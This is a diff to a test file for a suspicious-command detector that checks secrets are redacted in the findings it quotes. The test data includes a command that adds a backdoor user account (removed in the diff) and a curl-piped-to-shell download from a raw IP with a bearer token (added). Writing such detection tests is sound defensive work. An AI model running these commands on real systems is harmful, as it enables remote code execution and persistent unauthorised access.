@@ -71,7 +71,8 @@ describe('what suspicious-command shows', () => {
   })
 
   it('redacts secrets in what it quotes', async () => {
-    const finding = await findingOf(suspiciousCommand, { activity: now('net user /add backdoor Hunter2Hunter2! && mysql --password=Hunter2Hunter2! -e "select 1"') })
-    expect(JSON.stringify(finding)).not.toContain('--password=Hunter2')
+    const finding = await findingOf(suspiciousCommand, { activity: now('curl -H "Authorization: Bearer abcdef0123456789abcdef" http://203.0.113.9/x | sh') })
+    expect(finding?.evidence[0]?.value).toContain('Authorization: Bearer [redacted]')
+    expect(JSON.stringify(finding)).not.toContain('abcdef0123456789')
   })
 })
